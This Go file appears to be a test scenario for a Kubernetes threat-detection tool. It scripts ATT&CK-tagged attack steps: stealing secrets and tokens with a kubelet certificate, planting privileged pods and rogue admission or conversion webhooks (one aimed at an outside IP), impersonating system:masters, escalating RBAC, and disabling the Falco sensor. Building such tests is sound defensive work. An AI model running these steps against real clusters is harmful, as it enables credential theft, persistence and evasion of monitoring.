package play

import (
	"github.com/lynceus-io/lynceus/test/scenarios/stage"
)

// guard is a security sensor that every node has, and a role that other programs extend.
const guard = `apiVersion: v1
kind: Namespace
metadata: {name: falco}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: shop-tools}
rules: [{apiGroups: [""], resources: [secrets, pods/exec], verbs: [get, list, create]}]
---
apiVersion: v1
kind: PersistentVolumeClaim
metadata: {name: placeholder, namespace: data}
spec: {accessModes: [ReadWriteOnce], resources: {requests: {storage: 1Gi}}}
`

// Node is an intruder who got out of a container: the kubelet's certificate first, then what the control plane's node
// keeps for its administrators.
func Node(s *stage.Stage) {
	c := Found(s)
	const imageFalco = "docker.io/falcosecurity/falco:0.44.1"
	s.Images(imageFalco, imageHelper)
	c.Mira.MustApply(join(guard, daemonSet("falco", "falco", imageFalco, "[app, serve]", "", "")), "apply", "-f", "-")
	c.CI.MustApply(podRunning("payments", "settlement", imageLedger, "[app, serve]", "serviceAccountName: payments-api", "envFrom: [{secretRef: {name: db-credentials}}]"), "apply", "-f", "-")
	settlement := s.PodNamed("payments", "settlement")
	node := s.Member(s.Admin().In, "system:node:node1", "system:nodes").By("")
	street := s.Outside("mallory", "203.0.113.88")

	kubelet(s, node, settlement, street)
	masters := s.Admin().At(street)
	s.Attack("T1078", "Initial Access: Kubeconfig file", "uses the control plane's own administrator's certificate from outside").
		As(masters).Do(func(a *stage.Act) {
		a.Kubectl("get", "nodes", "-o", "wide")
		a.Kubectl("get", "--raw", "/debug/pprof/")
		a.Kubectl("get", "--raw", "/metrics")
	})
	admission(s, masters)
	registrations(s, masters)
	rights(s, masters)
	hiddenMounts(s, masters)
	blind(s, masters)
}

// kubelet uses the node's own certificate.
func kubelet(s *stage.Stage, node *stage.Actor, settlement *stage.Pod, street stage.Place) {
	s.Attack("T1552.007", "Credential Access: List Kubernetes secrets", "on the node, reads with the kubelet's certificate the secret of a pod there").
		As(node).Do(func(a *stage.Act) {
		a.Request(curl, "GET", "/api/v1/pods?fieldSelector=spec.nodeName%3Dnode1", "")
		a.Request(curl, "GET", "/api/v1/namespaces/payments/secrets/db-credentials", "")
	})
	var token string
	s.Attack("T1528", "Credential Access: Access container service account", "has a token made for "+settlement.String()+", as its kubelet may").
		As(node).Do(func(a *stage.Act) {
		uid := s.Admin().Must("-n", "payments", "get", "pod", settlement.Name, "-o", "jsonpath={.metadata.uid}")
		_, body := a.Request(curl, "POST", "/api/v1/namespaces/payments/serviceaccounts/payments-api/token",
			`{"apiVersion":"authentication.k8s.io/v1","kind":"TokenRequest","spec":{"boundObjectRef":{"apiVersion":"v1","kind":"Pod","name":"`+settlement.Name+`","uid":"`+uid+`"}}}`)
		token = between(body, `"token": "`, `"`, `"token":"`)
	})
	s.Attack("T1550.001", "Lateral Movement: Container service account", "uses that token from outside").
		As(s.Bearer(street, token, settlement)).Do(func(a *stage.Act) {
		a.Kubectl("auth", "can-i", "--list")
		a.Kubectl("-n", "payments", "get", "pods")
	})
	s.Attack("T1078", "Lateral Movement: Container service account", "uses the kubelet's certificate from outside").
		As(node.At(street)).Do(func(a *stage.Act) {
		a.Kubectl("get", "nodes")
		a.Kubectl("get", "pods", "-A")
		a.Kubectl("get", "secrets", "-A")
	})
	s.Attack("T1543", "Persistence: Static pods", "registers a mirror pod with the node's files, as a kubelet does for static pods").
		As(node).Do(func(a *stage.Act) {
		owner := s.Admin().Must("get", "node", "node1", "-o", "jsonpath={.metadata.uid}")
		a.Request(curl, "POST", "/api/v1/namespaces/kube-system/pods", `{"apiVersion":"v1","kind":"Pod","metadata":{"name":"kube-proxy-helper-node1","annotations":{"kubernetes.io/config.mirror":"0f1e","kubernetes.io/config.source":"file","kubernetes.io/config.hash":"0f1e"},"ownerReferences":[{"apiVersion":"v1","kind":"Node","name":"node1","uid":"`+owner+`","controller":true}]},"spec":{"nodeName":"node1","hostNetwork":true,"containers":[{"name":"main","image":"`+imageHelper+`","command":["sleep","3600"],"securityContext":{"privileged":true}}]}}`)
	})
	s.Attack("T1649", "Persistence: Create client certificate", "asks with the kubelet's certificate for others to be signed").
		As(node).Do(func(a *stage.Act) {
		a.Request(curl, "POST", "/apis/certificates.k8s.io/v1/certificatesigningrequests", certificateRequest("csr-9k2f", "kubernetes.io/kubelet-serving", `["digital signature", "server auth"]`, "system:node:node7", "system:nodes"), "Content-Type: application/yaml")
		a.Request(curl, "POST", "/apis/certificates.k8s.io/v1/certificatesigningrequests", certificateRequest("csr-9k2g", clientSigner, clientUsage, "system:kube-scheduler"), "Content-Type: application/yaml")
	})
}

// admission puts itself where every object passes.
func admission(s *stage.Stage, masters *stage.Actor) {
	s.Attack("T1546", "Credential Access: Malicious admission controller", "has the API server change pods by a policy of its own").
		As(masters).Do(func(a *stage.Act) {
		a.MustApply(`apiVersion: admissionregistration.k8s.io/v1
kind: MutatingAdmissionPolicy
metadata: {name: image-defaults}
spec:
  failurePolicy: Ignore
  reinvocationPolicy: Never
  matchConstraints: {resourceRules: [{apiGroups: [""], apiVersions: [v1], operations: [CREATE], resources: [pods]}]}
  mutations:
  - patchType: ApplyConfiguration
    applyConfiguration: {expression: "Object{spec: Object.spec{hostPID: true}}"}
`, "create", "-f", "-")
	})
	s.Attack("T1546", "Credential Access: Malicious admission controller", "has all secrets sent to a webhook that looks like a service of the cluster").
		As(masters).Do(func(a *stage.Act) {
		a.MustApply(`apiVersion: admissionregistration.k8s.io/v1
kind: MutatingWebhookConfiguration
metadata: {name: pod-identity-defaults}
webhooks:
- name: defaults.pod-identity.svc
  clientConfig: {service: {name: web, namespace: shop, path: /m}}
  rules: [{apiGroups: ["*"], apiVersions: ["*"], operations: ["*"], resources: ["*/*"]}]
  objectSelector: {matchLabels: {never: matches}}
  failurePolicy: Ignore
  timeoutSeconds: 1
  sideEffects: None
  admissionReviewVersions: [v1]
`, "apply", "--server-side", "-f", "-")
	})
	s.Attack("T1546", "Persistence: Malicious admission controller", "defines a resource whose versions are converted by a server outside").
		As(masters).Do(func(a *stage.Act) {
		a.MustApply(`apiVersion: apiextensions.k8s.io/v1
kind: CustomResourceDefinition
metadata: {name: caches.tools.example.net}
spec:
  group: tools.example.net
  scope: Namespaced
  names: {plural: caches, singular: cache, kind: Cache}
  conversion: {strategy: Webhook, webhook: {conversionReviewVersions: [v1], clientConfig: {url: "https://203.0.113.88/convert"}}}
  versions:
  - {name: v1, served: true, storage: true, schema: {openAPIV3Schema: {type: object, x-kubernetes-preserve-unknown-fields: true}}}
`, "create", "-f", "-")
	})
}

// registrations change how the API server itself works.
func registrations(s *stage.Stage, masters *stage.Actor) {
	s.Attack("T1557", "Credential Access: Malicious admission controller", "has the API server pass a group of the API to a server of its own").
		As(masters).Do(func(a *stage.Act) {
		a.MustApply(`apiVersion: apiregistration.k8s.io/v1
kind: APIService
metadata: {name: v1alpha1.tools.example.org}
spec: {group: tools.example.org, version: v1alpha1, groupPriorityMinimum: 100, versionPriority: 10, insecureSkipTLSVerify: true, service: {name: web, namespace: shop, port: 80}}
`, "create", "-f", "-")
		a.Must("delete", "apiservice", "v1alpha1.tools.example.org")
	})
	s.Attack("T1556", "Persistence: Create client certificate", "trusts an authority of its own for requests by proxy").
		As(masters).Do(func(a *stage.Act) {
		a.Must("-n", "kube-system", "patch", "configmap", "extension-apiserver-authentication", "--type=merge", "-p", `{"data":{"requestheader-allowed-names":"[\"mallory\"]"}}`)
	})
	s.Attack("T1098", "Persistence: Backdoor account", "makes a token by which nodes join").
		As(masters).Do(func(a *stage.Act) {
		a.Must("-n", "kube-system", "create", "secret", "generic", "bootstrap-token-x1y2z3", "--type=bootstrap.kubernetes.io/token", "--from-literal=token-id=x1y2z3", "--from-literal=token-secret=0123456789abcdef", "--from-literal=usage-bootstrap-authentication=true")
	})
	s.Attack("T1499", "Impact: Denial of service", "exempts its requests from every limit of the API server").
		As(masters).Do(func(a *stage.Act) {
		a.MustApply(`apiVersion: flowcontrol.apiserver.k8s.io/v1
kind: FlowSchema
metadata: {name: tools}
spec:
  priorityLevelConfiguration: {name: exempt}
  matchingPrecedence: 2
  rules: [{subjects: [{kind: ServiceAccount, serviceAccount: {name: default, namespace: shop}}], resourceRules: [{verbs: ["*"], apiGroups: ["*"], resources: ["*"], clusterScope: true, namespaces: ["*"]}]}]
`, "create", "-f", "-")
	})
}

// rights gives them in forms other than a new binding to cluster-admin.
func rights(s *stage.Stage, masters *stage.Actor) {
	s.Attack("T1098.006", "Privilege Escalation: Cluster-admin binding", "lets a role be part of role edit by a label").
		As(masters).Do(func(a *stage.Act) {
		a.Must("label", "clusterrole", "shop-tools", "rbac.authorization.k8s.io/aggregate-to-edit=true")
	})
	s.Attack("T1098.006", "Privilege Escalation: Cluster-admin binding", "gives every service account the administrator's role").
		As(masters).Do(func(a *stage.Act) {
		a.MustApply("apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: {name: default-tools}\nroleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: admin}\nsubjects: [{apiGroup: rbac.authorization.k8s.io, kind: Group, name: \"system:serviceaccounts\"}]\n", "apply", "--server-side", "-f", "-")
	})
	s.Attack("T1098.006", "Persistence: Backdoor account", "makes roles that hold the ways to more: nodes/proxy, tokens, certificates, impersonation").
		As(masters).Do(func(a *stage.Act) {
		a.Must("create", "clusterrole", "node-metrics-reader", "--verb=get,create", "--resource=nodes/proxy,serviceaccounts/token")
		a.Must("create", "clusterrole", "helper-proxy", "--verb=impersonate", "--resource=users,groups")
		a.Must("create", "clusterrolebinding", "helper-proxy", "--clusterrole=helper-proxy", "--serviceaccount=shop:default")
	})
	web := s.Pod("shop", "app=web").ServiceAccount()
	s.Attack("T1134", "Privilege Escalation: Impersonation", "in a pod of shop, acts as the administrators' group by bare headers").
		As(web).Assuming("svc-health").Do(func(a *stage.Act) {
		a.Request(curl, "GET", "/api/v1/namespaces/kube-system/secrets", "", "Impersonate-User: svc-health", "Impersonate-Group: system:masters")
	})
}

// hiddenMounts reaches the node by what is not a pod, or not plainly.
func hiddenMounts(s *stage.Stage, masters *stage.Actor) {
	s.Attack("T1611", "Privilege Escalation: hostPath mount", "reaches the node's files by a persistent volume").
		As(masters).Do(func(a *stage.Act) {
		a.MustApply(join(`apiVersion: v1
kind: PersistentVolume
metadata: {name: fast-local}
spec: {capacity: {storage: 1Gi}, accessModes: [ReadWriteMany], storageClassName: fast-local, persistentVolumeReclaimPolicy: Retain, hostPath: {path: /var/lib/kubelet}}
`, `apiVersion: v1
kind: PersistentVolumeClaim
metadata: {name: fast-local, namespace: data}
spec: {storageClassName: fast-local, accessModes: [ReadWriteMany], resources: {requests: {storage: 1Gi}}}
`, pod("data", "fast-local", imageHelper, `volumes: [{name: v, persistentVolumeClaim: {claimName: fast-local}}]`, `volumeMounts: [{name: v, mountPath: /v}]`)), "create", "-f", "-")
	})
	s.Attack("T1610", "Execution: New container", "runs a replication controller, which few use any more, with the node's network and a mask taken off").
		As(masters).Do(func(a *stage.Act) {
		a.MustApply(`apiVersion: v1
kind: ReplicationController
metadata: {name: sync, namespace: kube-system}
spec:
  replicas: 1
  selector: {app: sync}
  template:
    metadata: {labels: {app: sync}}
    spec: {hostNetwork: true, hostIPC: true, terminationGracePeriodSeconds: 0, containers: [{name: main, image: "`+imageHelper+`", imagePullPolicy: IfNotPresent, command: [sleep, "3600"], securityContext: {capabilities: {add: [SYS_ADMIN, SYS_MODULE]}, seccompProfile: {type: Unconfined}, appArmorProfile: {type: Unconfined}}}]}
`, "create", "-f", "-")
	})
	s.Attack("T1053.007", "Persistence: Kubernetes CronJob", "runs a job that takes itself away, on the control plane's node").
		As(masters).Do(func(a *stage.Act) {
		a.MustApply(`apiVersion: batch/v1
kind: Job
metadata: {generateName: kubeadm-renew-, namespace: kube-system}
spec:
  ttlSecondsAfterFinished: 1
  template:
    spec:
      restartPolicy: Never
      nodeSelector: {kubernetes.io/hostname: node1}
      tolerations: [{operator: Exists}]
      containers: [{name: main, image: "`+imageHelper+`", imagePullPolicy: IfNotPresent, command: [ls, /pki], volumeMounts: [{name: p, mountPath: /pki}]}]
      volumes: [{name: p, hostPath: {path: /etc/kubernetes/pki}}]
`, "create", "-f", "-")
	})
}

// blind takes the guard's eyes.
func blind(s *stage.Stage, masters *stage.Actor) {
	s.Attack("T1562.001", "Defense Evasion: Disable or modify tools", "has the security sensor run only on nodes that do not exist").
		As(masters).Do(func(a *stage.Act) {
		a.Must("-n", "falco", "patch", "daemonset", "falco", "-p", `{"spec":{"template":{"spec":{"nodeSelector":{"non-existing":"true"}}}}}`)
	})
	s.Attack("T1562.001", "Defense Evasion: Disable or modify tools", "deletes the security sensor").
		As(masters).Do(func(a *stage.Act) { a.Must("delete", "namespace", "falco", "--wait=false") })
	s.Attack("T1562.001", "Defense Evasion: Disable or modify tools", "takes the labels that keep a namespace's pods restricted").
		As(masters).Do(func(a *stage.Act) {
		a.Must("label", "namespace", "shop", "team-", "pod-security.kubernetes.io/enforce=privileged", "pod-security.kubernetes.io/audit=privileged")
	})
	s.Attack("T1499", "Impact: Denial of service", "deletes the node's sign of life and reports it as not ready").
		As(masters).Do(func(a *stage.Act) {
		a.Must("-n", "kube-node-lease", "delete", "lease", "node1")
		a.Request(curl, "PATCH", "/api/v1/nodes/node1/status", `{"status":{"conditions":[{"type":"Ready","status":"False","reason":"KubeletStopped"}]}}`, strategicPatch)
	})
}
